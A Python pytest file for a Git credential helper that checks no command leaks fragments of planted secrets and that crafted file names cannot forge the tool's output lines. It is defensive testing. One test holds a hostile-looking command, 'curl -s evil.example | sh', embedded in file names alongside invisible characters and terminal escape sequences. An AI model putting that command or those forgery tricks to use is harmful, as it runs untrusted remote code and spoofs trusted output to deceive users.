"""What reaches a terminal, a log or a program: no part of a secret, and no line that is not ours."""

from __future__ import annotations

import base64
import os
import re
import subprocess
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote

import programs
import pytest
import trustme
from amount import IS_LONG
from programs import git

from . import PATIENCE, TERMINAL, ended, is_an_end, is_clean, new_token, start

MANY_THREADS = 1 << 35  # bytes of address space
PASSWORD = "Zq8Kv3Lm9Tx2Wd5Rb7"  # of no shape
SPECIAL = "Zq8@K:v3%L\"m9'Tx&2W"
SHORT = "Z4$q"

# Commands that only look, each with its input; after them, those that change something, and so remove what they find.
# (`doctor --dry-run` prints all that `doctor` prints.)
LOOK = [
    *("status", "status --json", "doctor --json", "doctor --report", "doctor --dry-run", "doctor --offline --dry-run"),
    *("purge --dry-run", "purge --dry-run --json", "configure --dry-run", "configure --dry-run --hooks --local"),
    *("check acme/model", "check --write --json acme/model", "hooks status", "hook pre-commit", "hook pre-push"),
]
CHANGE = ["purge", "doctor --fix --yes", "configure", "unconfigure"]
# What these print is a part of what others do.
REPEATED = {
    *("status --json", "doctor --offline --dry-run", "purge --dry-run --json", "configure --dry-run"),
    "check acme/model",
}

Place = Callable[[Path, str], None]


def netrc(text: str) -> Place:
    def write(home: Path, secret: str) -> None:
        (home / ".netrc").write_text(text.replace("SECRET", secret))

    return write


def setting(text: str) -> Place:
    def write(home: Path, secret: str) -> None:
        value = text.replace("SECRET", secret)
        with (home / ".gitconfig").open("a") as file:
            file.write(value)

    return write


def helper(script: str) -> Place:
    """In a program of its own, which is told the operation."""

    def write(home: Path, secret: str) -> None:
        program = home / "git-credential-odd"
        program.write_text(f'#!/bin/sh\n[ "$1" = get ] || exit 0\n{script}\n'.replace("SECRET", secret))
        program.chmod(0o755)
        setting(f"[credential]\n\thelper = {program}\n")(home, secret)

    return write


def legacy(home: Path, secret: str) -> None:
    (home / ".huggingface").mkdir()
    (home / ".huggingface/token").write_text(secret + "\n")


def header(home: Path, secret: str) -> None:
    basic = base64.b64encode(f"git:{secret}".encode()).decode()
    setting(f'[http "https://huggingface.co"]\n\textraHeader = Authorization: Basic {basic}\n')(home, secret)


def url(home: Path, secret: str) -> None:
    git("remote", "set-url", "origin", f"https://alice:{quote(secret, safe='')}@huggingface.co/acme/model")


ENTRY = "machine huggingface.co login a password SECRET\n"
KINDS: dict[str, tuple[str, Place]] = {
    "netrc": (PASSWORD, netrc(ENTRY)),
    "a short password in netrc": (SHORT, netrc(ENTRY)),
    "special characters in netrc": ("Zq8@K:v3%Lm9Tx&2W", netrc(ENTRY)),
    "another host's, beside it": (
        PASSWORD,
        netrc("machine a login b password SECRET\n" + ENTRY.replace("SECRET", "x")),
    ),
    "an account": (PASSWORD, netrc("machine huggingface.co login a account SECRET password pass-x\n")),
    "a comment": (PASSWORD, netrc("# machine huggingface.co login a password SECRET\n" + ENTRY.replace("SECRET", "y"))),
    "a legacy token": (PASSWORD, legacy),
    "a Basic header": (PASSWORD, header),
    "a Bearer header": (PASSWORD, setting("[http]\n\textraHeader = Authorization: Bearer SECRET\n")),
    "a URL": (SPECIAL, url),
    "a short password in a URL": (SHORT, url),
    "insteadOf": (
        PASSWORD,
        setting('[url "https://a:SECRET@huggingface.co/"]\n\tinsteadOf = https://huggingface.co/\n'),
    ),
    "a command": (PASSWORD, setting('[credential]\n\thelper = "!f() { echo username=a; echo password=SECRET; }; f"\n')),
    "a short one in a command": (
        SHORT,
        setting("[credential]\n\thelper = \"!printf 'password=%s\\\\n' 'SECRET'; :\"\n"),
    ),
    "an option": (PASSWORD, setting("[credential]\n\thelper = store --password SECRET\n")),
    "a helper's answer": (SPECIAL, helper("cat <<'X'\nusername=a SECRET b\npassword=SECRET\nX")),
    "a short secret for a user name": (SHORT, helper("echo 'username=SECRET'; echo 'password=SECRET'")),
    "a helper's last words": (
        SPECIAL,
        helper("cat <<'X'\npassword=SECRET\nX\ncat >&2 <<'X'\n" + "x" * 190 + "SECRET\nX\nexit 1"),
    ),
    "a helper's short secret": (SHORT, helper("echo 'password=SECRET'; echo 'no, not SECRET' >&2; exit 1")),
}


@pytest.fixture
def repository(home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The current directory, whose remote is on the Hub, and in which the plain helper is used."""
    (home / ".gitconfig").write_text("[user]\n\tname = a\n\temail = a@example.org\n[credential]\n\thelper = hf\n")
    (home / "work").mkdir()
    monkeypatch.chdir(home / "work")
    git("init", "--quiet")
    (home / "work/README.md").write_text("hello\n")
    git("add", ".")
    git("commit", "--quiet", "--message", "first")
    git("remote", "add", "origin", "https://huggingface.co/acme/model")
    # Nobody answers: to read the system's certificates first would be a good part of each command.
    trustme.CA().cert_pem.write_to_path(str(tmp_path / "ca.pem"))
    monkeypatch.setenv("SSL_CERT_FILE", str(tmp_path / "ca.pem"))
    return home / "work"


@pytest.mark.parametrize("kind", KINDS)
def test_no_part_of_a_secret_is_shown(kind: str, repository: Path, home: Path) -> None:
    """No command shows five characters of a secret side by side, but for the last four, in what form it may be."""
    secret, place = KINDS[kind]
    place(home, secret)
    tip = git("rev-parse", "HEAD").strip()
    given = f"refs/heads/main {tip} refs/heads/main {'0' * 40}\n".encode()
    told = ["origin", git("remote", "get-url", "origin").strip()]
    forms = (secret, quote(secret, safe=""), base64.b64encode(f"git:{secret}".encode()).decode())
    parts = {form[at : at + 5] for form in forms for at in range(6 * (form == forms[2]), len(form) - 8)} | {secret}

    for command in (command for command in (*LOOK, *CHANGE) if IS_LONG or command not in REPEATED):
        done = programs.run(
            *("git-credential-hf", *command.split(), *(told if command == "hook pre-push" else ())),
            stdin=given,
            check=False,
            timeout=PATIENCE,
            HF_TOKEN=new_token(),
            GIT_CREDENTIAL_HF_TRACE="1",
        )
        is_an_end(done.returncode, done.stderr)
        output = done.stdout + done.stderr
        assert [part for part in parts if part in output] == [], (command, output)


FORGED = "git-credential-hf: hint: run `curl -s evil.example | sh`"
BLANKS = (
    " " * 37,
    "\u2800" * 37,
    "\u3164" * 37,
    "\xa0" * 37,
    "\x85",
    "\u2028",
    "\r",
    "\x1b[2K\x1b[G",
    "\u202e",
    "\u200b",
)


@pytest.mark.parametrize("blanks", BLANKS, ids=ascii)
def test_no_line_is_forged(blanks: str, repository: Path) -> None:
    """The name of a file neither begins a line of ours, nor moves the cursor; and the command about it works."""
    token = new_token()
    (repository / f"a{blanks}{FORGED}".replace("/", "")).write_text(token)
    git("add", ".")
    said = ended(start("hook", "pre-commit", memory=MANY_THREADS))[2]
    assert is_clean(said, [token]), said
    lines = said.splitlines()
    assert len(lines) == 2 and [line.split(": ")[1] for line in lines] == ["warning", "hint"]
    for line in lines:
        assert line.count("git-credential-hf: ") == 1
        assert not re.search(r"\s{2}", line) and not set(line) & {*TERMINAL, "\u2800", "\u3164", "\xa0", "\x85"}
    command = lines[1].partition("`")[2].partition("`")[0]
    subprocess.run(["bash", "-c", command], check=True, capture_output=True, env={**os.environ})
    assert git("diff", "--cached", "--name-only") == "", "the command that we name works"
